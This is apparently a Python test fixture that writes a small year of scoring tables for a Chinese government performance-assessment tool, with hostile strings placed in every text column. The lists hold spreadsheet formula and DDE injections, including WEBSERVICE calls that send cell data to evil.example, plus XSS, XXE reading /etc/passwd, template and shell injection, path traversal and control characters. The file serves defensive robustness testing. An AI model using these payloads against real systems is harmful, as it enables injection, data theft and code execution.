"""A small year with hostile text in every text column: formulas, markup, links, templates, escapes, odd characters."""

from __future__ import annotations

import shutil
from collections.abc import Sequence
from pathlib import Path

from build import SCHEME_FILE
from small_year import write_table

RARE = "䶮㐂𠮷"  # GB18030 beyond GBK, an extension B character beyond 16 bits: office names really hold them

_STARTS = "=+-@＝＋－＠\t\r"
FORMULAS = (
    *(f"{start}SUM(A1:A9)" for start in _STARTS),
    *(f"{start}cmd|'/C calc'!A0" for start in _STARTS),
    '=HYPERLINK("https://evil.example/?q="&A1,"点此")',
    '=WEBSERVICE("https://evil.example/"&A1)',
    '=IMPORTXML("https://evil.example/","//a")',
    '=IMAGE("https://evil.example/x.png")',
    '=DDE("cmd";"/C calc";"x")',
    "{=1+1}",
    "=1+1\nx",
    '"=1+1"',
    "'=1+1",
    " =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "-2+3",
    "+8613800000000",
    "@SUM(1)",
    "%0A=1+1",
    "\n=1+1",
    "a\r\n=1+1",
    ",=1+1",
    ";=1+1",
    "x\t=1+1",
)
MARKUP = (
    "<script>alert(4711)</script>",
    "</script><script>alert(4711)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(4711)>",
    '"><img src=x onerror="alert(4711)">',
    "'><svg/onload=alert(4711)>",
    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(4711)</script></svg>',
    '<svg><use href="https://evil.example/x.svg#a"/></svg>',
    "<style>@import url(https://evil.example/x.css);</style>",
    "</style><style>body{display:none}</style>",
    '<div style="background:url(https://evil.example/x)">甲</div>',
    '<p style="width:expression(alert(4711))">甲</p>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<link rel="attachment" href="file:///etc/passwd">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<iframe src="file:///etc/passwd"></iframe>',
    '<object data="file:///etc/passwd"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/"><input name=a><button>交</button></form>',
    '<a href="javascript:alert(4711)">甲</a>',
    '<a href="JaVaScRiPt&#58;alert(4711)">甲</a>',
    '<a href="data:text/html,<script>alert(4711)</script>">甲</a>',
    '<a href="https://evil.example/">甲</a>',
    '<body onload="alert(4711)">',
    '<td onmouseover="alert(4711)">甲</td>',
    "<details open ontoggle=alert(4711)>",
    "<math><mtext><img src=x onerror=alert(4711)></mtext></math>",
    "<template><script>alert(4711)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(4711)>">',
    "<!--><img src=x onerror=alert(4711)>-->",
    "<![CDATA[<script>alert(4711)</script>]]>",
    "]]><script>alert(4711)</script>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "&lt;script&gt;alert(4711)&lt;/script&gt;",
    "&#60;script&#62;alert(4711)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(4711)",
    "＜script＞alert(4711)＜/script＞",
    "<video><source onerror=alert(4711)></video>",
    "<marquee onstart=alert(4711)>甲</marquee>",
    "</table></div></body></html>",
    "</textarea></title></pre>",
    "<plaintext>",
    "<img src=file:///etc/passwd>",
    "<img src=data:image/svg+xml;base64,PHN2Zy8+ srcset=https://evil.example/x>",
)
LINKS = (
    "javascript:alert(4711)",
    "https://evil.example/track",
    "http://evil.example",
    "www.evil.example",
    "mailto:a@evil.example",
    "file:///etc/passwd",
    "ftp://evil.example/x",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)",
    "external:c:\\windows\\system32\\calc.exe",
    "internal:'问题清单'!A1",
    "\\\\evil.example\\share\\x",
    "[甲](javascript:alert(4711))",
    "[甲](https://evil.example/)",
    "![甲](https://evil.example/x.png)",
    "![甲](attachment:x.png)",
    "![甲](file:///etc/passwd)",
    "<https://evil.example/>",
    "[甲]: https://evil.example/",
    "**粗** _斜_ `码` ~~删~~",
    "# 一级标题",
    "| 甲 | 乙 |\n|---|---|\n| 1 | 2 |",
    "```html\n<script>alert(4711)</script>\n```",
)
TEMPLATES = (
    "{{ 7*7 }}",
    "{{ config }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include '/etc/passwd' %}",
    "{% import os %}",
    "{# 注 #}",
    "${7*7}",
    "#{7*7}",
    "%(year)s %s %d %n",
    "{0} {year} {unit_id!r} {0.__class__}",
    "__import__('os').system('true')",
    '"""); __import__("os").system("true"); ("""',
    "%matplotlib inline",
    "!touch pwned",
    "$(touch pwned) `touch pwned`",
    "; touch pwned",
)
MATHS = (
    r"$\href{javascript:alert(4711)}{甲}$",
    r"$$\require{html}\style{color:red}{x}$$",
    r"\(\input{/etc/passwd}\)",
    r"\[\immediate\write18{touch pwned}\]",
    r"\begin{equation}x\end{equation}",
    "$x_1$ 5$ 至 6$",
)
PATHS = (
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\boot.ini",
    "CON",
    "T01/../T02",
    "a/b.html",
    "~/x",
    "%2e%2e%2fetc",
    "units/T01.html",
)
CHARACTERS = (
    "甲\x01\x07\x08乙",
    "甲\x1b[2J\x1b]0;标题\x07乙",
    "甲\x7f\x85\x9b乙",
    "甲\u2028乙\u2029丙",
    "甲\u202e乙丙\u202c丁",
    "甲\u2066乙\u2069",
    "甲\u200b\u200d\ufeff乙",
    "甲\ufffe\uffff乙",
    "_x0041__x003D_",
    f"{RARE}字",
    "e\u0301a\u0308（组合字符）",
    "👨‍👩‍👧‍👦🇨🇳",
    "\U0010fffd私用\ue000",
    "甲" * 300,
    "W" * 300,
    "é" * 150 + "<b>",
    "null",
    "NaN",
    "TRUE",
    "1e9",
    "0123",
    '"',
    "'",
    '",\r\n"',
    "\\",
)
PAYLOADS: tuple[str, ...] = (*FORMULAS, *MARKUP, *LINKS, *TEMPLATES, *MATHS, *PATHS, *CHARACTERS)


def make_hostile_raw(raw: Path, payloads: Sequence[str], units: int, every: int = 1) -> Path:
    """Make a raw folder that cleaning accepts: row n of each table carries payload n in every text column it has.

    The first ``units`` payloads name the units too (U001, U002 …); all rows of facts belong to U001, so that one
    report shows them all, save that U002 is vetoed. Each deduction takes 0.01. With ``every`` = 8 the tables share
    the payloads, an eighth of them each, save 扣分登记, which has them all.
    """
    raw.mkdir(parents=True)
    shutil.copy(SCHEME_FILE, raw / "scheme.yaml")
    codes = [f"U{number:03}" for number in range(1, units + 1)]
    name = {code: f"{text}·{code}" for code, text in zip(codes, payloads, strict=False)}
    write_table(
        raw,
        "单位名录",
        ("单位编码", "单位名称", "单位类别", "全称", "别名", "重点任务单位", "依据文号", "<b>备注</b>"),
        [
            (code, text, "镇", f"{text}全称", f"{text}别名".replace(";", ",").replace("；", "，"), "否", text, text)
            for code, text in name.items()
        ],
    )
    fixed = ("BS-01", "BS-02", "HY-01", "HY-02", "HY-03", "RW-01", "RW-02")
    keys = [f"{text}#{number}" for number, text in enumerate(payloads)]
    write_table(
        raw,
        "扣分标准",
        ("标准编号", "考核内容", "扣分情形", "单次扣分", "批准文号", "=1+1"),
        [(code, "材料", "情形", "0.01", "文号", "") for code in fixed]
        + [(key, text, text, "0.01", text, text) for key, text in zip(keys, payloads, strict=True)],
    )
    turn = iter(range(100))

    def share() -> list[tuple[str, str]]:
        first = next(turn) % every
        return list(zip(keys, payloads, strict=True))[first::every]

    red = len(keys[0::every])
    write_table(
        raw,
        "热线红灯",
        ("工单编号", "单位", "红灯时间"),
        [(key, "U002", "2022-05-01") for key, _ in share()],
    )
    write_table(
        raw,
        "信息中心结果",
        ("单位", "红灯次数", "市大数据局通报", "通报文号", "出具日期"),
        [(code, str(red) if code == "U002" else "0", "否", name[code], "2022-12-31") for code in codes],
    )
    write_table(
        raw,
        "通报批评",
        ("编号", "单位", "类型", "层级", "机关或媒体", "文号或网址", "日期", "是否点名", "佐证编号"),
        [(key, "U001", "媒体", "县", text, text, "2022-06-01", "否", key) for key, text in share()],
    )
    write_table(
        raw,
        "材料报送",
        ("单位", "材料", "季度", "实报日期", "免报原因"),
        [(code, "半年汇报", "", "", name[code]) for code in codes]
        + [(code, "年度总结", "", "2022-12-10", "") for code in codes],
    )
    write_table(
        raw,
        "扣分登记",
        ("编号", "单位", "标准编号", "事实", "发生日期", "佐证编号", "评分人", "复核人", "<i>列</i>"),
        [
            (key, "U001", key, text, "2022-06-01", key if number % 2 else f"{key}无", text, text, text)
            for number, (key, text) in enumerate(zip(keys, payloads, strict=True))
        ],
    )
    write_table(
        raw,
        "表彰宣传",
        ("编号", "单位", "加分项", "事项编号", "事项名称", "层级", "机关或媒体", "文号或网址", "日期", "佐证编号"),
        [
            (key, "U001", item, key, text, "市", text, text, "2022-06-01", key)
            for number, (key, text) in enumerate(share())
            for item in [("通报表彰", "经验宣传")[number % 2]]
        ],
    )
    write_table(
        raw,
        "评定加分",
        ("编号", "单位", "事项", "评定分", "理由", "评分人", "复核人", "佐证编号"),
        [(key, "U001", key, "0.01", text, text, f"{text}二", key) for key, text in share()],
    )
    write_table(
        raw, "领导评价", ("评价人", "职务", "单位", "分值"), [(key, "副组长", "U001", "2") for key, _ in share()]
    )
    write_table(
        raw,
        "参会登记",
        ("会议", "日期", "单位", "到会情况"),
        [(key, "2022-06-01", "U001", "到会") for key, _ in share()],
    )
    write_table(
        raw,
        "交办任务",
        ("任务编号", "任务", "单位", "时限", "完成日期"),
        [(key, text, "U001", "2022-06-01", "2022-05-31") for key, text in share()],
    )
    write_table(
        raw,
        "佐证目录",
        ("佐证编号", "单位", "类型", "名称或网址", "存放位置", "SHA256"),
        [(key, "U001", "网址", text, text, text) for key, text in zip(keys, payloads, strict=True)],
    )
    write_table(
        raw,
        "调整复核",
        ("编号", "单位", "对象表", "对象编号", "处理", "新值", "理由", "决定人", "决定日期", "批准文号"),
        [
            (key, "U001", "扣分登记", key, "撤销", "", text, text, "2022-12-01", text)
            for number, (key, text) in enumerate(share())
            if number % 3 == 0
        ],
    )
    others = ("通报批评", "扣分登记", "评定加分", "表彰宣传", "信息报送", "领导评价", "参会登记", "交办任务")
    write_table(
        raw,
        "确认无事项",
        ("表", "单位", "确认人", "确认日期"),
        [(table, "全部", payloads[number], "2022-12-31") for number, table in enumerate(others)],
    )
    return raw
